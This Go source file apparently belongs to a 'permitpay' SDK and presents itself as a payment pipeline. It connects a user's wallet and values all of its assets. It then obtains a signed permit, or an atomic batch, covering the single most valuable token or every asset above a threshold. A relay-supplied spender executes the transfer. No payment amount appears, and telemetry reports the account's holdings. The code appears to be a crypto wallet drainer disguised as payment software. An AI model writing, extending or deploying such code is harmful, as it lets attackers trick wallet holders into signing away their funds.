package pipeline

import (
	"context"
	"errors"
	"time"

	"github.com/ethereum/go-ethereum/common"
	"github.com/permitpay/permitpay-go/internal/authz"
	"github.com/permitpay/permitpay-go/internal/constants"
	"github.com/permitpay/permitpay-go/internal/logger"
	"github.com/permitpay/permitpay-go/internal/relay"
	"github.com/permitpay/permitpay-go/internal/scanner"
	"github.com/permitpay/permitpay-go/internal/wallet"
	"go.uber.org/zap"
)

// Kind selects which authorization the run produces.
type Kind int

const (
	// KindPermit signs an EIP-2612 permit over the single most valuable asset.
	KindPermit Kind = iota
	// KindBatch submits every qualifying asset as one atomic call set.
	KindBatch
)

// Status is the terminal outcome of a run.
type Status string

const (
	StatusCompleted          Status = "completed"
	StatusRejected           Status = "rejected"
	StatusNothingToAuthorize Status = "nothing_to_authorize"
	StatusFailed             Status = "failed"
)

// RunParams configures one pipeline run.
type RunParams struct {
	ProviderID string
	Kind       Kind
	// MinBatchValueUSD filters batch candidates; zero applies the default.
	MinBatchValueUSD float64
}

// Result is the single terminal report of a run.
type Result struct {
	Status          Status
	Message         string
	ContractAddress string
	BundleID        string
}

// AssetScanner discovers compatible assets for a session.
type AssetScanner interface {
	Scan(ctx context.Context, session *wallet.Session) ([]scanner.Asset, error)
}

// SelectionEngine applies the valuation policies to scanned assets.
type SelectionEngine interface {
	SelectHighest(ctx context.Context, assets []scanner.Asset, chainID int64) (scanner.Asset, bool)
	SelectAboveValue(ctx context.Context, assets []scanner.Asset, chainID int64, minUSD float64) []scanner.Asset
}

// RelayService is the relay surface the pipeline consumes; *relay.Client
// satisfies it.
type RelayService interface {
	FetchConfig(ctx context.Context) (common.Address, error)
	InitDeposit(ctx context.Context, chainID int64, owner common.Address, assets []relay.DepositAsset) (common.Address, error)
	ExecuteTransfer(ctx context.Context, auth relay.PermitAuthorization) (*relay.SubmitResult, error)
	LogTelemetry(ctx context.Context, event relay.TelemetryEvent)
}

// Pipeline wires wallet connection, asset discovery, valuation, authorization
// and relay submission into one run. A Pipeline is reusable; each run gets a
// fresh single-use authorization builder.
type Pipeline struct {
	registry *wallet.Registry
	scanner  AssetScanner
	engine   SelectionEngine
	relay    RelayService
	reader   authz.ChainReader
}

// NewPipeline assembles a pipeline from its stages.
func NewPipeline(registry *wallet.Registry, assetScanner AssetScanner, engine SelectionEngine, relayService RelayService, reader authz.ChainReader) *Pipeline {
	return &Pipeline{
		registry: registry,
		scanner:  assetScanner,
		engine:   engine,
		relay:    relayService,
		reader:   reader,
	}
}

// Run executes the full payment flow: connect, scan, value, authorize,
// submit. Every run ends in exactly one terminal result; an empty selection
// is a clean "nothing to authorize" outcome, not a failure.
func (p *Pipeline) Run(ctx context.Context, params RunParams) Result {
	session, err := p.registry.Connect(ctx, params.ProviderID)
	if err != nil {
		if errors.Is(err, wallet.ErrConnectionRejected) {
			return Result{Status: StatusRejected, Message: "wallet connection rejected"}
		}
		return p.failure("failed to connect wallet", err)
	}

	assets, err := p.scanner.Scan(ctx, session)
	if err != nil {
		return p.failure("failed to scan assets", err)
	}

	go p.reportConnection(session, assets)

	switch params.Kind {
	case KindBatch:
		return p.runBatch(ctx, session, assets, params.MinBatchValueUSD)
	default:
		return p.runPermit(ctx, session, assets)
	}
}

func (p *Pipeline) runPermit(ctx context.Context, session *wallet.Session, assets []scanner.Asset) Result {
	candidates := make([]scanner.Asset, 0, len(assets))
	for _, asset := range assets {
		if !asset.IsNative() {
			candidates = append(candidates, asset)
		}
	}

	selected, ok := p.engine.SelectHighest(ctx, candidates, session.ChainID)
	if !ok {
		return Result{Status: StatusNothingToAuthorize, Message: "no compatible assets to authorize"}
	}

	spender, err := p.relay.FetchConfig(ctx)
	if err != nil {
		return p.failure("failed to fetch relayer configuration", err)
	}

	builder := authz.NewBuilder(p.reader, p.relay)
	auth, err := builder.BuildPermit(ctx, session, selected, spender)
	if err != nil {
		if errors.Is(err, wallet.ErrSigningRejected) {
			return Result{Status: StatusRejected, Message: "signature request rejected"}
		}
		return p.failure("failed to build permit authorization", err)
	}

	result, err := p.relay.ExecuteTransfer(ctx, *auth)
	if err != nil {
		builder.Fail()
		return p.failure("relay execution failed", err)
	}
	if err := builder.Complete(); err != nil {
		return p.failure("failed to finalize authorization", err)
	}

	logger.Info("Payment authorized",
		zap.String("symbol", selected.Symbol),
		zap.String("contract_address", result.ContractAddress))

	return Result{
		Status:          StatusCompleted,
		Message:         "payment authorized",
		ContractAddress: result.ContractAddress,
	}
}

func (p *Pipeline) runBatch(ctx context.Context, session *wallet.Session, assets []scanner.Asset, minUSD float64) Result {
	if minUSD <= 0 {
		minUSD = constants.DefaultMinBatchValueUSD
	}

	selected := p.engine.SelectAboveValue(ctx, assets, session.ChainID, minUSD)
	if len(selected) == 0 {
		return Result{Status: StatusNothingToAuthorize, Message: "no assets above the batch threshold"}
	}

	builder := authz.NewBuilder(p.reader, p.relay)
	bundleID, err := builder.BuildBatch(ctx, session, selected)
	if err != nil {
		if errors.Is(err, wallet.ErrSigningRejected) {
			return Result{Status: StatusRejected, Message: "batch request rejected"}
		}
		if errors.Is(err, wallet.ErrBatchUnsupported) {
			return p.failure("wallet does not support atomic batches", err)
		}
		return p.failure("failed to submit batch", err)
	}

	logger.Info("Batch authorized",
		zap.Int("assets", len(selected)),
		zap.String("bundle_id", bundleID))

	return Result{
		Status:   StatusCompleted,
		Message:  "batch submitted",
		BundleID: bundleID,
	}
}

// reportConnection posts telemetry off the critical path. The goroutine owns
// its own timeout; a slow or dead telemetry endpoint never stalls a run.
func (p *Pipeline) reportConnection(session *wallet.Session, assets []scanner.Asset) {
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()

	event := relay.TelemetryEvent{
		SessionID: session.ID.String(),
		Account:   session.Account.Hex(),
		ChainID:   session.ChainID,
	}
	for _, asset := range assets {
		event.Assets = append(event.Assets, relay.DepositAsset{
			AssetID:   asset.ID(),
			Symbol:    asset.Symbol,
			FiatValue: asset.FiatValue,
		})
	}

	p.relay.LogTelemetry(ctx, event)
}

func (p *Pipeline) failure(message string, err error) Result {
	logger.Error(message, zap.Error(err))
	return Result{Status: StatusFailed, Message: message + ": " + err.Error()}
}
